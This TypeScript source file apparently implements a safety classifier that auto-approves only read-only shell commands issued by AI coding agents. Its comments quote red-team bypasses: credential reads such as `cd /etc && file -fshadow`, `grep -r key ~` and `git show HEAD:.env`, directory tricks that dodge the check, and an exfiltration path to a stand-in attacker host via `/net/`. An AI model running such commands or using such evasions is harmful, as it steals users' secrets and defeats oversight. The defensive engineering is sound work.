/**
 * Is an argv known to be read-only (CODEX-REFERENCE §1, much stricter)? The answer is a security
 * boundary: a known-safe command is auto-approved under every policy. "Known" is meant literally:
 * every word must be understood by the program's allow-listed option table (./programs), so an
 * option nobody listed makes the command not known-safe. This file only dispatches, handles the
 * `bash -lc` form and names the word that decided. Pure; a script needs the shell grammar loaded
 * (`await loadShellGrammar()`), and asking before that throws.
 */
import { BASE64_TABLE, checkBase64 } from './programs/base64.ts';
import { COREUTILS, checkCoreutil, LINUX_ONLY } from './programs/coreutils.ts';
import { FILE_TABLE, checkFile } from './programs/file.ts';
import { checkFind } from './programs/find.ts';
import { checkGit, diffTurnsOffExtDiff, gitSubcommandName } from './programs/git.ts';
import { type OptionTable, type SafeVerdict, SAFE, notSafe, readArgs } from './programs/optionTable.ts';
import { RG_TABLE, checkRg } from './programs/rg.ts';
import { checkSed } from './programs/sed.ts';
import { SORT_TABLE, checkSort } from './programs/sort.ts';
import { UNIQ_TABLE, checkUniq } from './programs/uniq.ts';
import { type ProgramLocator, isTrustedProgramPath, programName } from './programs/programPath.ts';
import { broadSearchRoot, mayHoldSecret, networkMountIn, secretIn, secretInGitWord, underDirectory } from './programs/secretPaths.ts';
import { posix } from 'node:path';
import { MAX_SCRIPT_BYTES, type Expansion, parseWordOnlyScriptDetailed, shellScriptOf } from './shellParse.ts';

/** Codex rewrites every argv element equal to `zsh` to `bash`, so `zsh -lc` reads like `bash -lc`. */
export function zshAsBash(argv: readonly string[]): string[] {
  return argv.map((a) => (a === 'zsh' ? 'bash' : a));
}

/** Any NUL byte (argv cannot carry one to exec) or more than MAX_SCRIPT_BYTES of text: refuse. */
export function isMalformedArgv(argv: readonly string[]): boolean {
  let size = 0;
  for (const a of argv) {
    if (typeof a !== 'string' || a.includes('\0')) return true;
    size += a.length;
    if (size > MAX_SCRIPT_BYTES) return true;
  }
  return false;
}

export interface SafeCheckOptions {
  platform?: NodeJS.Platform;
  /**
   * Where the run's PATH finds each bare name (classifyExec always passes one). Without it a bare
   * name is read as the system's program: the argv-only question.
   */
  locate?: ProgramLocator;
  /**
   * The directory the command runs in (absolute), when the request names one. An agent chooses it
   * (MCP `workdir`, Gemini's `dir_path`): `cat hosts.yml` run in ~/.config/gh read the forge token
   * with no word naming it (rt-classifier). Without it a relative word is read as it stands.
   */
  cwd?: string;
}

/** Why argv[0] is not trusted, or null when it is. */
function untrustedProgram(argv0: string, what: string, locate: ProgramLocator | undefined): string | null {
  if (isTrustedProgramPath(argv0, locate)) return null;
  if (argv0.includes('/') || locate === undefined) return `\`${argv0}\` is not ${what} from a system directory (the agent may have written it)`;
  const found = locate(argv0);
  // `.`, `::`, a workspace or /tmp directory on PATH: the agent may have written the file found there
  return found === null
    ? `\`${argv0}\` is not found on the command's PATH in a system directory (the agent may have written the one that runs)`
    : `\`${argv0}\` runs as \`${found}\` on the command's PATH, not ${what} from a system directory (the agent may have written it)`;
}

/**
 * Programs whose operands' count or position decides what they do: a glob that expands to two
 * files turns `uniq a*` into `uniq IN OUT` (writes OUT) and `sed -n 1p f*` into a longer argv.
 */
export const OPERAND_SENSITIVE: ReadonlySet<string> = new Set(['uniq', 'sed', 'cd']);

/** The per-program check on one plain argv, with the word that decided. */
export function checkProgram(argv: readonly string[], expansion: Expansion = 'none', options: SafeCheckOptions = {}, expandingWord: string | null = null, directory: string | null = null): SafeVerdict {
  const argv0 = argv[0];
  if (argv0 === undefined) return notSafe('', 'empty command');
  const untrusted = untrustedProgram(argv0, 'a program', options.locate);
  if (untrusted !== null) return notSafe(argv0, untrusted);
  const name = programName(argv0);
  const args = argv.slice(1);
  const reads = readsSecret(name, args, directory);
  if (reads !== null) return reads;
  if (expansion === 'unsafe') return notSafe(expandingWord ?? argv0, `the shell expands \`${expandingWord ?? '?'}\` into words that could be options`);
  if (expansion === 'prefixed' && OPERAND_SENSITIVE.has(name)) return notSafe(expandingWord ?? name, `\`${name}\` with a glob: the number of operands is unknown`);
  if (LINUX_ONLY.has(name) && (options.platform ?? process.platform) !== 'linux') return notSafe(name, `\`${name}\` is known-safe only on Linux`);
  const core = checkCoreutil(name, args);
  if (core !== null) return core;
  switch (name) {
    case 'uniq':
      return checkUniq(args);
    case 'base64':
      return checkBase64(args);
    case 'find':
      return checkFind(args);
    case 'rg':
      return checkRg(args);
    case 'git':
      return checkGit(argv);
    case 'sed':
      return checkSed(args);
    case 'sort':
      return checkSort(args);
    case 'file':
      return checkFile(args);
    default:
      // anything else
      return notSafe(name, `\`${name}\` is not a program warden knows to be read-only`);
  }
}

/** Programs that only print their own words: a secret's name in them reads nothing. */
const PRINTS_WORDS: ReadonlySet<string> = new Set(['echo', 'true', 'false', 'expr', 'seq', 'pwd', 'id', 'whoami', 'uname']);

/**
 * A known-safe read runs bare under danger-full-access, where no sandbox hides credentials: a word
 * naming a secret (programs/secretPaths.ts), a recursive search rooted where secrets live, or a
 * list of files to read taken from a file (`sort --files0-from=F`: the names in F are not seen).
 */
function readsSecret(name: string, args: readonly string[], directory: string | null, broadRoot: (path: string) => boolean = (p) => broadSearchRoot(p) || mayHoldSecret(p)): SafeVerdict | null {
  if (PRINTS_WORDS.has(name)) return null;
  if (name === 'cd' && args.length === 0) return notSafe('cd', '`cd` alone goes to $HOME, where credentials live');
  for (const word of args) {
    // blocks `cd ~/.config && cat ~+/gh/hosts.yml`: the segments either side of `~+` never meet
    if (STATE_TILDE.test(word)) return notSafe(word, `\`${word}\` starts at a directory the shell's state decides ($PWD, $OLDPWD, the directory stack), so warden cannot read where it leads`);
  }
  const attached = attachedValueSecret(name, args, directory);
  if (attached !== null) return attached;
  for (const word of args) {
    // any program: the value of `--opt=VALUE` or `-XVALUE` is a path too (`git log -O.env`)
    const value = attachedValueOf(word);
    const valueSecret = value === null ? null : secretIn(underDirectory(directory, value));
    if (valueSecret !== null) return notSafe(word, `\`${word}\` names a secret (${valueSecret}); a known-safe read runs unsandboxed under danger-full-access`);
    // `git show HEAD:.env`, `:0:.env` and `git log -p -- '*env'` print the committed or staged file
    const objectPath = name === 'git' ? secretInGitWord(word) : null;
    if (objectPath !== null) return notSafe(word, `\`${word}\` names a secret (${objectPath}) in the repository; a known-safe read runs unsandboxed under danger-full-access`);
    const secret = secretIn(underDirectory(directory, word));
    if (secret !== null) return notSafe(word, `\`${word}\` names a secret (${secret}); a known-safe read runs unsandboxed under danger-full-access`);
    // `ls /net/DATA.attacker.example`: the automounter reaches the host, outside any sandbox
    const remote = networkMountIn(underDirectory(directory, word)) ?? (value === null ? null : networkMountIn(underDirectory(directory, value)));
    if (remote !== null) return notSafe(word, `\`${word}\` is under \`${remote}\`, where opening a path makes the system mount another host (network)`);
    // blocks `sort --files0-from=list`: list may name ~/.ssh/id_rsa (wc prints only counts)
    if (word.startsWith('--files0-from') && name !== 'wc') return notSafe(word, `\`${word}\` reads the names of the files to read from a file warden cannot see`);
  }
  const recursive = name === 'rg' || (name === 'grep' && grepRecurses(args));
  if (recursive) {
    // blocks `rg -uuu token /`, `grep -r key ~`, `rg secret ..` (the workspace's parent is often $HOME)
    const root = args.find((a) => !a.startsWith('-') && broadRoot(underDirectory(directory, a)));
    if (root !== undefined) return notSafe(root, `\`${name}\` searching \`${root}\` recursively reads credentials stored there`);
    // with no path operand the search starts where the script cd-ed: `cd .. && grep -rekey` has
    // no word naming the root at all (redclass), so a broad directory decides whatever the words
    if (directory !== null && broadRoot(directory)) return notSafe('cd', `\`${name}\` searching recursively from \`${directory}\` reads credentials stored there`);
  }
  return null;
}

/**
 * Is a directory, read from the request's absolute cwd, one a recursive search must not start
 * from: `/`, a home or the directory of homes, one where a credential location begins
 * (`/etc`, `~/.config`), or a secret itself. Not every short path as broadSearchRoot has it
 * (`/repo`, `/work/app` are where workspaces live): the path here is exact, not a word. Pure.
 */
function broadFromStart(path: string): boolean {
  const normal = posix.normalize(path);
  const parts = normal.split('/').filter((p) => p !== '');
  if (parts.length === 0 || (parts.length === 1 && parts[0] === 'root')) return true;
  const home = parts.findLastIndex((p) => /^(home|users)$/i.test(p));
  if (home >= 0 && home >= parts.length - 2) return true;
  return mayHoldSecret(normal) || secretIn(normal) !== null;
}

/**
 * The secret checks again from the request's cwd (`start`, absolute): each place a script may be
 * in (`directory`, null where it started) read as an absolute path, so a relative word names the
 * file that is read. Null when nothing there is a secret.
 */
function readsSecretFrom(start: string, name: string, args: readonly string[], directory: string | null): SafeVerdict | null {
  const at = directory === null ? start : directory.startsWith('/') || directory.startsWith('~') ? directory : `${start.replace(/\/+$/, '')}/${directory}`;
  return readsSecret(name, args, at, broadFromStart);
}

/**
 * Tilde prefixes that expand to a directory warden does not track: `~+` ($PWD), `~-` ($OLDPWD,
 * inherited from the agent's environment when no cd set it), `~N`/`~+N`/`~-N` (the directory
 * stack). Also after `=` or `:`, where bash expands a tilde in an assignment-like word.
 */
const STATE_TILDE = /(^|[=:])~([+-]|[0-9])/;

/** The option tables of the programs that take a file as an option value, for attachedValueSecret. */
function tableOf(name: string): OptionTable | null {
  if (Object.hasOwn(COREUTILS, name)) return COREUTILS[name]!.table;
  const tables: Record<string, OptionTable> = { rg: RG_TABLE, sort: SORT_TABLE, file: FILE_TABLE, uniq: UNIQ_TABLE, base64: BASE64_TABLE };
  return Object.hasOwn(tables, name) ? tables[name]! : null;
}

/** The text after `=` of a long option, or after the letter of a short one (`-f.env`), else null. */
function attachedValueOf(word: string): string | null {
  if (word.startsWith('--')) {
    const eq = word.indexOf('=');
    return eq < 0 ? null : word.slice(eq + 1);
  }
  return word.startsWith('-') && word.length > 2 ? word.slice(2) : null;
}

/**
 * An option word is not a path whole (`-fshadow` is no path), so its attached value is checked on
 * its own: `file -f.env` and `file -fid_rsa` print every line of the file as a name it cannot
 * open, `wc --files0-from=.env` likewise, and libmagic's warnings quote `file -m.env` (redclass);
 * after `cd DIR` the value is read from DIR (`cd /etc && file -fshadow`, redteam3). The program's
 * own table says where an attached value starts (`-Lf.netrc`, `--files-from=.netrc`); each value
 * is joined onto DIR and checked. An argv the table cannot read is refused by the program's check anyway.
 */
function attachedValueSecret(name: string, args: readonly string[], directory: string | null): SafeVerdict | null {
  const table = tableOf(name);
  if (table === null) return null;
  const read = readArgs(table, args);
  if (!read.ok) return null;
  for (const option of read.args.options) {
    if (option.value === null || option.value === '') continue;
    const secret = secretIn(underDirectory(directory, option.value));
    const from = directory === null ? '' : ` from \`${directory}\``;
    if (secret !== null) return notSafe(option.word, `\`${option.word}\` names a secret (${secret})${from}; a known-safe read runs unsandboxed under danger-full-access`);
  }
  return null;
}

/**
 * Does this grep argv search directories recursively? Read with grep's own table, so every
 * spelling counts: `-r`, `-R`, `--recursive`, and `-d`/`--directories` with `recurse` or any
 * abbreviation grep's argmatch accepts (`-d rec`), attached, separate or inside a short group
 * (`-hd recurse`: redclass). An argv the table cannot read counts as recursive (fail closed).
 */
function grepRecurses(args: readonly string[]): boolean {
  const read = readArgs(COREUTILS.grep!.table, args);
  if (!read.ok) return true;
  return read.args.options.some(
    (o) =>
      o.name === '-r' || o.name === '-R' || o.name === '--recursive' || o.name === '--dereference-recursive' ||
      ((o.name === '-d' || o.name === '--directories') && o.value !== null && o.value !== '' && 'recurse'.startsWith(o.value)),
  );
}

/** Control characters other than tab and newline: tree-sitter and bash disagree on them (`\r`, `\v`). */
// eslint-disable-next-line no-control-regex
const SCRIPT_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f]/;

/**
 * Known-safe with the reason: the plain argv passes its program's table, or it is
 * `bash|zsh|sh -lc|-c SCRIPT` whose every word-only sub-command passes.
 */
export function checkKnownSafe(argv: readonly string[], options: SafeCheckOptions = {}): SafeVerdict {
  if (argv.length === 0) return notSafe('', 'empty command');
  if (isMalformedArgv(argv)) return notSafe('', 'the command holds a NUL byte or is over 1 MiB');
  const command = zshAsBash(argv);
  const shell = shellScriptOf(command);
  const start = options.cwd !== undefined && options.cwd.startsWith('/') ? options.cwd : null;
  // `ls` or `head -5 config` run in ~/.ssh read it with no word naming it
  const startSecret = start === null ? null : secretIn(start);
  if (startSecret !== null) return notSafe(start!, `the command runs in \`${start}\`, which names a secret (${startSecret}); a known-safe read runs unsandboxed under danger-full-access`);
  const startRemote = start === null ? null : networkMountIn(start);
  if (startRemote !== null) return notSafe(start!, `the command runs in \`${start}\`, under \`${startRemote}\`, where opening a path makes the system mount another host (network)`);
  if (shell === null) {
    const verdict = checkProgram(command, 'none', options);
    if (!verdict.safe || start === null || PRINTS_WORDS.has(programName(command[0]!))) return verdict;
    return readsSecretFrom(start, programName(command[0]!), command.slice(1), null) ?? verdict;
  }
  // `zsh -lc` is read as bash, but the zsh PATH finds is what runs: both must be the system's
  for (const runs of new Set([shell.shell, argv[0]!])) {
    const untrustedShell = untrustedProgram(runs, 'a shell', options.locate);
    if (untrustedShell !== null) return notSafe(runs, untrustedShell);
  }
  // bash keeps a CR or VT inside a word where tree-sitter sees a blank: what we read is not what runs
  if (SCRIPT_CONTROL.test(shell.script)) return notSafe(shell.script, 'the script holds a control character (CR, VT ...) the shell reads differently');
  const parsed = parseWordOnlyScriptDetailed(shell.script);
  if (parsed === null) {
    return notSafe(shell.script, 'the script uses more than plain words (redirection, substitution, variables, control flow ...)');
  }
  let changedDirectory = false;
  // every directory the script may be in (null: where it started), so a relative word is read
  // from each (`cd ~/.ssh && cat config`). A cd that fails leaves the shell where it was:
  // `cd /etc; cd /nonexistent; cat shadow` reads /etc/shadow (redclass), so a cd adds a place
  // and never takes one away
  let directories: Array<string | null> = [null];
  for (let i = 0; i < parsed.commands.length; i++) {
    const words = parsed.commands[i]!;
    const name = programName(words[0] ?? '');
    // `cd dir && git status` runs git in another repository, whose config can run programs
    if (changedDirectory && name === 'git') return notSafe('cd', '`git` after `cd` runs in another repository, whose config can run programs');
    if (name === 'cd') changedDirectory = true;
    // `git diff` runs diff.external / diff.<drv>.command; as its own argv warden adds --no-ext-diff
    // (requests/effects.ts), which it cannot do inside a script
    if (name === 'git' && gitSubcommandName(words) === 'diff' && !diffTurnsOffExtDiff(words)) {
      return notSafe('diff', '`git diff` inside a script could run an external diff program (add --no-ext-diff, or run `git diff` as its own command)');
    }
    // the shell runs its own cd, echo, pwd ... whatever PATH holds: no look-up to trust (a bare `cd` as a whole argv is execvp'd, and still is)
    const wordOptions = SHELL_BUILTINS.has(words[0] ?? '') ? withoutLocator(options) : options;
    for (const directory of directories) {
      const verdict = checkProgram(words, parsed.expansion[i] ?? 'unsafe', wordOptions, parsed.expandingWord[i] ?? null, directory);
      if (!verdict.safe) return verdict;
      const fromStart = start === null ? null : readsSecretFrom(start, name, words.slice(1), directory);
      if (fromStart !== null) return fromStart;
    }
    if (name === 'cd') {
      const target = cdTarget(words.slice(1));
      if (typeof target !== 'string') return target;
      const next = new Set([...directories, ...directories.map((d) => underDirectory(d, target))]);
      if (next.size > MAX_SCRIPT_DIRECTORIES) return notSafe('cd', `the script may be in more than ${MAX_SCRIPT_DIRECTORIES} directories; warden does not follow that many`);
      directories = [...next];
    }
  }
  return SAFE;
}

/** Past this many places a script may be in, warden stops following its cds (each command is checked from each). */
const MAX_SCRIPT_DIRECTORIES = 16;

/**
 * Where `cd ARGS` goes, read with cd's table (its check has passed), or why warden cannot say:
 * `cd -` goes to $OLDPWD, which the agent's environment sets when no cd did (the old reading, `/`,
 * made `cd /etc && cd /tmp && cd - && cat shadow` a read of `/shadow`); two operands are zsh's
 * `cd OLD NEW`, which replaces OLD with NEW in $PWD (`cd work .config` from /home/u/work is
 * ~/.config) and an error elsewhere (redclass).
 */
function cdTarget(args: readonly string[]): string | SafeVerdict {
  const read = readArgs(COREUTILS.cd!.table, args);
  if (!read.ok) return notSafe(read.unknown.word, `cd: ${read.unknown.why}`);
  const [target, extra] = read.args.operands;
  if (extra !== undefined) return notSafe(extra, '`cd` with two operands: zsh replaces the first with the second in $PWD, a place warden cannot follow');
  if (target === '-') return notSafe('-', '`cd -` goes to $OLDPWD, which warden does not track');
  return target ?? '~';
}

/** Builtins of bash, dash and zsh alike that a known-safe script may name: the shell never looks them up on PATH. */
const SHELL_BUILTINS: ReadonlySet<string> = new Set(['cd', 'echo', 'pwd', 'true', 'false', 'printf', 'test', '[']);

function withoutLocator(options: SafeCheckOptions): SafeCheckOptions {
  return options.platform === undefined ? {} : { platform: options.platform };
}

/** Known-safe: the plain argv passes, or it is `bash|zsh|sh -lc|-c SCRIPT` whose every word-only sub-command passes. */
export function isKnownSafeCommand(argv: readonly string[], options: SafeCheckOptions = {}): boolean {
  return checkKnownSafe(argv, options).safe;
}
